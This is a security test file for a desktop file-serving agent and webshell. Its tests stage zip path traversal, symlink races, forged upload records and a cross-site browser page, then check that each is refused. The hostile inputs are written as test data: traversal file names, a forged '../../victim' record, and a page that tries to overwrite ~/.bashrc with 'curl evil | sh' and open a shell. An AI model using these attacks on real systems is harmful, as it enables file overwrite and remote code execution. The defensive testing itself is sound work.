// Attacks on the file routes with real files: FIFOs, folders that change under a zip, symlink swaps racing in a
// child process, delete through a link, forged upload bookkeeping, stale uploads, and a cross-site page in Chromium.
import { createServer, type Server } from 'node:http';
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { chmod, chown, mkdir, readdir, rm, symlink, utimes, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freePort, launchChromium, makeRunDir, processAlive, startAgent, type RunningAgent } from '@desktop-agents/tools/harness';
import yauzl from 'yauzl';
import { auth, sleep, tokenEnv } from './helpers.js';

/** The entry names of a zip as stored (raw bytes, not checked by the reader: what any extractor gets). */
function zipEntryNames(zip: Buffer): Promise<string[]> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(zip, { lazyEntries: true, decodeStrings: false }, (err, file) => {
      if (err || !file) return reject(err ?? new Error('no zip'));
      const names: string[] = [];
      file.on('entry', (entry: yauzl.Entry) => {
        names.push(Buffer.from(entry.fileName as unknown as Uint8Array).toString('utf8'));
        file.readEntry();
      });
      file.once('end', () => resolve(names));
      file.once('error', reject);
      file.readEntry();
    });
  });
}

let run: { dir: string; remove: () => Promise<void> };
let home: string;
let outside: string;
let filer: RunningAgent;

const fileUrl = (path: string) => `${filer.url}/filer?${new URLSearchParams({ file: path })}`;

beforeAll(async () => {
  run = await makeRunDir('security-filer');
  home = join(run.dir, 'home');
  outside = join(run.dir, 'outside');
  await mkdir(home, { recursive: true });
  await mkdir(outside, { recursive: true });
  await writeFile(join(outside, 'secret.txt'), 'OUTSIDE-SECRET');
  // the default staging folder (outside home)
  filer = await startAgent('filer', { env: { ...tokenEnv, HOME: home } });
});

afterAll(async () => {
  await filer?.stop();
  await run?.remove();
});

describe('zip entry names', () => {
  it('stores names every extractor writes inside its target: no backslash, drive, dot segment or device name', async () => {
    const folder = join(home, 'portable');
    await mkdir(join(folder, 'C:'), { recursive: true });
    for (const name of ['..\\..\\Windows\\evil.exe', 'C:pwn.txt', 'con.txt', 'a:b', 'trail.', 'Case.txt', 'case.txt', 'what?.txt']) {
      await writeFile(join(folder, name), name);
    }
    await writeFile(join(folder, 'C:', 'inside.txt'), 'x');
    const res = await fetch(fileUrl('~/portable'), { headers: auth });
    expect(res.status).toBe(200);
    const names = await zipEntryNames(Buffer.from(await res.arrayBuffer()));
    for (const name of names) {
      expect(name, name).not.toMatch(/[\\:*?"<>|]/);
      expect(name.startsWith('/'), name).toBe(false);
      for (const segment of name.split('/').filter(Boolean)) {
        expect(['.', '..'], name).not.toContain(segment);
        expect(segment, name).not.toMatch(/^(con|prn|aux|nul)(\.|$)/i);
        expect(segment, name).not.toMatch(/[. ]$/);
      }
    }
    // every file is there, once, under its mapped name (two names equal but for case kept apart)
    expect(names.filter((n) => !n.endsWith('/')).sort()).toEqual(
      ['.._.._Windows_evil.exe', 'C_/inside.txt', 'C_pwn.txt', 'Case.txt', '_con.txt', 'a_b', 'case (2).txt', 'trail_', 'what_.txt'].sort(),
    );
  });
});

describe('special files', () => {
  it('refuses a FIFO without blocking, and keeps listing, uploads and readiness serving', async () => {
    execFileSync('mkfifo', [join(home, 'pipe')]);
    const downloads = await Promise.all(Array.from({ length: 8 }, () => fetch(fileUrl('~/pipe'), { headers: auth, signal: AbortSignal.timeout(3000) })));
    for (const res of downloads) expect([res.status, await res.json()]).toEqual([400, { code: 400, data: 'Not a regular file' }]);
    expect((await fetch(`${filer.url}/filer/directory/list?directory=~`, { headers: auth, signal: AbortSignal.timeout(3000) })).status).toBe(200);
    expect((await filer.get('/readyz')).status).toBe(200);
    const form = new FormData();
    form.append('file', new File(['ok'], 'after-fifo.txt'));
    expect((await fetch(`${filer.url}/filer`, { method: 'POST', headers: auth, body: form, signal: AbortSignal.timeout(3000) })).status).toBe(200);
  });

  it('keeps serving when files of a folder being zipped grow and vanish', async () => {
    const folder = join(home, 'churn');
    await mkdir(folder, { recursive: true });
    for (let i = 0; i < 40; i++) await writeFile(join(folder, `f${i}.bin`), Buffer.alloc(256 * 1024, i));
    // a writer in another process appends to and deletes files while the zips stream
    const churn = spawn(
      'sh',
      [
        '-c',
        `for i in $(seq 1 400); do for f in ${folder}/f*.bin; do head -c 65536 /dev/zero >> "$f" 2>/dev/null; done; rm -f ${folder}/f$((i % 40)).bin; done`,
      ],
      { stdio: 'ignore' },
    );
    const zips = await Promise.all(
      Array.from({ length: 6 }, async () => {
        const res = await fetch(fileUrl('~/churn'), { headers: auth });
        await res.arrayBuffer().catch(() => undefined);
        return res.status;
      }),
    );
    churn.kill();
    for (const status of zips) expect([200, 404]).toContain(status);
    expect(processAlive(filer.process.pid)).toBe(true);
    expect((await filer.get('/readyz')).status).toBe(200);
  });
});

describe('symlinks', () => {
  it('never serves a file outside home while a folder is swapped for a symlink out of it', async () => {
    const dir = join(home, 'swap');
    await mkdir(dir, { recursive: true });
    await writeFile(join(dir, 'secret.txt'), 'inside');
    await mkdir(join(home, 'swap-real'), { recursive: true });
    await writeFile(join(home, 'swap-real', 'secret.txt'), 'inside');
    // the racer flips home/swap between a real folder and a link to the outside folder, as fast as it can
    const racer = spawn('sh', ['-c', `cd ${home} && while true; do mv swap swap-dir && ln -s ${outside} swap && rm swap && mv swap-dir swap; done`], {
      stdio: 'ignore',
    });
    const bodies: string[] = [];
    try {
      for (let round = 0; round < 37; round++) {
        const batch = await Promise.all(
          Array.from({ length: 10 }, async () => {
            const res = await fetch(fileUrl('~/swap/secret.txt'), { headers: auth });
            return res.text();
          }),
        );
        bodies.push(...batch);
      }
    } finally {
      racer.kill();
      await sleep(100);
    }
    expect(bodies.length).toBe(370);
    expect(bodies.filter((b) => b.includes('OUTSIDE-SECRET'))).toEqual([]);
    expect(bodies.some((b) => b === 'inside')).toBe(true);
  });

  it('deletes a symlink itself with recursive: true, never the folder it points to', async () => {
    await mkdir(join(outside, 'keep'), { recursive: true });
    await writeFile(join(outside, 'keep', 'precious.txt'), 'keep me');
    await mkdir(join(home, 'inner'), { recursive: true });
    await writeFile(join(home, 'inner', 'a.txt'), 'a');
    await symlink(join(home, 'inner'), join(home, 'link-in'));
    const res = await fetch(`${filer.url}/filer`, {
      method: 'DELETE',
      headers: { ...auth, 'content-type': 'application/json' },
      body: JSON.stringify({ file: '~/link-in', recursive: true }),
    });
    expect(res.status).toBe(200);
    expect(existsSync(join(home, 'link-in'))).toBe(false);
    expect(readFileSync(join(home, 'inner', 'a.txt'), 'utf8')).toBe('a');
    expect(readFileSync(join(outside, 'keep', 'precious.txt'), 'utf8')).toBe('keep me');
  });
});

describe("the agent's own bookkeeping", () => {
  it('keeps crash markers out of reach: a marker planted in home deletes nothing on restart', async () => {
    const victim = join(outside, '.upload-0123456789abcdef.part');
    await writeFile(victim, 'victim');
    // where the first version kept its markers: inside home, writable by any program of the desktop (and through
    // the filer itself)
    await mkdir(join(home, '.cache', 'filer-partial'), { recursive: true });
    await writeFile(join(home, '.cache', 'filer-partial', '.upload-0123456789abcdef.part'), victim);
    await filer.stop();
    filer = await startAgent('filer', { env: { ...tokenEnv, HOME: home } });
    expect(readFileSync(victim, 'utf8')).toBe('victim');
  });

  it('refuses to start with its upload staging inside home (a zip of home or a symlinked folder would reach it), naming the setting', async () => {
    await expect(startAgent('filer', { env: { ...tokenEnv, HOME: home, FILER_STAGING_DIR: join(home, '.staging') } })).rejects.toThrow(
      /upload staging folder .*\.staging is inside the served folder .*FILER_STAGING_DIR/,
    );
  });

  it('expires partial resumable uploads after FILER_UPLOAD_TTL_MS', async () => {
    const staging = join(run.dir, 'staging-ttl');
    const agent = await startAgent('filer', { env: { ...tokenEnv, HOME: home, FILER_STAGING_DIR: staging, FILER_UPLOAD_TTL_MS: '1000' } });
    try {
      const metadata = `fullPath ${Buffer.from('ttl.bin').toString('base64')}`;
      const created = await fetch(`${agent.url}/filer/uploads`, {
        method: 'POST',
        headers: { ...auth, 'tus-resumable': '1.0.0', 'upload-length': '100', 'upload-metadata': metadata },
      });
      expect(created.status).toBe(201);
      const location = new URL(created.headers.get('location') ?? '', agent.url).pathname;
      await fetch(`${agent.url}${location}`, {
        method: 'PATCH',
        headers: { ...auth, 'tus-resumable': '1.0.0', 'upload-offset': '0', 'content-type': 'application/offset+octet-stream' },
        body: Buffer.alloc(10),
      });
      // old enough to expire: the sweep runs every TTL
      for (const name of await readdir(staging))
        await utimes(join(staging, name), new Date(Date.now() - 60_000), new Date(Date.now() - 60_000)).catch(() => {});
      await sleep(1500);
      const head = await fetch(`${agent.url}${location}`, { method: 'HEAD', headers: { ...auth, 'tus-resumable': '1.0.0' } });
      expect([404, 410]).toContain(head.status);
      expect((await readdir(staging)).filter((n) => n !== 'partial')).toEqual([]);
    } finally {
      await agent.stop();
      await rm(staging, { recursive: true, force: true });
    }
  });
});

describe('resumable-upload staging nobody else can prepare or poison', () => {
  const tus = (agent: RunningAgent, headers: Record<string, string>) =>
    fetch(`${agent.url}/filer/uploads`, { method: 'POST', headers: { ...auth, 'tus-resumable': '1.0.0', ...headers } });
  const metadata = (name: string) => `fullPath ${Buffer.from(name).toString('base64')}`;

  it("refuses to start when a folder on the staging path is another user's or writable by others, naming it", async () => {
    const prepared = join(run.dir, 'prepared');
    await mkdir(prepared, { mode: 0o777 });
    await chmod(prepared, 0o777);
    await chown(prepared, 65534, 65534);
    await expect(startAgent('filer', { env: { ...tokenEnv, HOME: home, FILER_STAGING_DIR: join(prepared, 'staging') } })).rejects.toThrow(
      /upload staging .* is not private: .*prepared belongs to another user \(65534\)/,
    );
    // made by this user but open to others
    const open = join(run.dir, 'open-staging');
    await mkdir(open);
    await chmod(open, 0o777);
    await expect(startAgent('filer', { env: { ...tokenEnv, HOME: home, FILER_STAGING_DIR: open } })).rejects.toThrow(
      /is open to others \(mode 777; 0700 needed\)/,
    );
  });

  it('checks the staging again when used: swapped for a symlink after the start, resumable uploads are refused and the agent keeps serving', async () => {
    const staging = join(run.dir, 'staging-swap');
    const agent = await startAgent('filer', { env: { ...tokenEnv, HOME: home, FILER_STAGING_DIR: staging } });
    try {
      expect((await tus(agent, { 'upload-length': '10', 'upload-metadata': metadata('before.bin') })).status).toBe(201);
      const elsewhere = join(run.dir, 'attacker-staging');
      await mkdir(elsewhere, { mode: 0o700 });
      await rm(staging, { recursive: true, force: true });
      await symlink(elsewhere, staging);
      const refused = await tus(agent, { 'upload-length': '10', 'upload-metadata': metadata('after.bin') });
      expect(refused.status).toBe(503);
      expect(await refused.text()).toBe('Upload staging is not usable');
      expect(await readdir(elsewhere)).toEqual([]);
      expect((await agent.get('/healthz')).status).toBe(200);
    } finally {
      await agent.stop();
    }
  });

  it('sets a truncated or forged record aside with a log line, and keeps creating uploads', async () => {
    const staging = join(run.dir, 'staging-records');
    await mkdir(staging, { mode: 0o700 });
    await writeFile(join(staging, 'truncated.json'), '{"id":"trunc');
    await writeFile(join(staging, 'forged.json'), JSON.stringify({ id: '../../victim', size: 3, metadata: { fullPath: 'x' } }));
    const agent = await startAgent('filer', { env: { ...tokenEnv, HOME: home, FILER_STAGING_DIR: staging } });
    try {
      for (let i = 0; i < 3; i++) expect((await tus(agent, { 'upload-length': '10', 'upload-metadata': metadata(`r${i}.bin`) })).status).toBe(201);
      const names = await readdir(staging);
      expect(names).toEqual(expect.arrayContaining(['truncated.json.bad', 'forged.json.bad']));
      expect(agent.process.output).toMatch(/"record":"truncated.json"[^\n]*set aside/);
    } finally {
      await agent.stop();
    }
  });

  it('answers 507 at creation when the declared length is more than the disk has free', async () => {
    const staging = join(run.dir, 'staging-space');
    const agent = await startAgent('filer', { env: { ...tokenEnv, HOME: home, FILER_STAGING_DIR: staging, FILER_MAX_UPLOAD_BYTES: String(2 ** 52) } });
    try {
      const res = await tus(agent, { 'upload-length': String(2 ** 51), 'upload-metadata': metadata('huge.bin') });
      expect(res.status).toBe(507);
      expect(await res.text()).toBe('Insufficient storage: the file does not fit on the disk');
      expect((await readdir(staging)).filter((n) => n !== 'partial')).toEqual([]);
    } finally {
      await agent.stop();
    }
  });
});

describe('a cross-site page in a real browser (abcdesktop mode: loopback is the pod)', () => {
  let evil: Server;
  let abc: RunningAgent;
  let shell: RunningAgent;
  beforeAll(async () => {
    await writeFile(join(home, '.bashrc'), 'original bashrc\n');
    abc = await startAgent('filer', { env: { AUTH_MODE: 'abcdesktop', HOME: home, FILER_STAGING_DIR: join(run.dir, 'staging-abc') } });
    shell = await startAgent('webshell', { env: { AUTH_MODE: 'abcdesktop', WEBSHELL_SHELL: '/bin/sh' } });
    const port = await freePort();
    evil = createServer((_req, res) => {
      res.setHeader('content-type', 'text/html');
      res.end(`<!doctype html><script>
        window.results = {};
        const form = new FormData();
        form.append('fullPath', '.bashrc');
        form.append('overwrite', 'true');
        form.append('file', new Blob(['curl evil | sh']), '.bashrc');
        fetch('${abc.url}/filer', { method: 'POST', mode: 'no-cors', body: form }).then(() => window.results.post = 'sent', () => window.results.post = 'failed');
        fetch('${shell.url}/terminals?cols=80&rows=24', { method: 'POST', mode: 'no-cors' }).then(() => window.results.create = 'sent', () => window.results.create = 'failed');
        const ws = new WebSocket('ws://127.0.0.1:${shell.port}/terminals/1');
        ws.onclose = (e) => window.results.ws = e.code + ' ' + e.reason;
      </script>`);
    }).listen(port, '127.0.0.1');
    await new Promise((resolve) => evil.once('listening', resolve));
  });
  afterAll(async () => {
    evil?.close();
    await abc?.stop();
    await shell?.stop();
  });

  it('neither overwrites ~/.bashrc nor opens a shell', async () => {
    const browser = await launchChromium();
    try {
      const page = await browser.newPage();
      const address = evil.address();
      await page.goto(`http://localhost:${typeof address === 'object' && address ? address.port : 0}/`);
      await page.waitForFunction('window.results.post && window.results.create && window.results.ws', undefined, { timeout: 10_000 });
      const results = await page.evaluate<Record<string, string>>('window.results');
      expect(results.ws).toBe('1008 origin not allowed');
    } finally {
      await browser.close();
    }
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('original bashrc\n');
    const terminals = shell.logLines().filter((l) => l['msg'] === 'terminal created');
    expect(terminals).toEqual([]);
    expect(shell.logLines().some((l) => l['msg'] === 'cross-site caller refused')).toBe(true);
  });
});
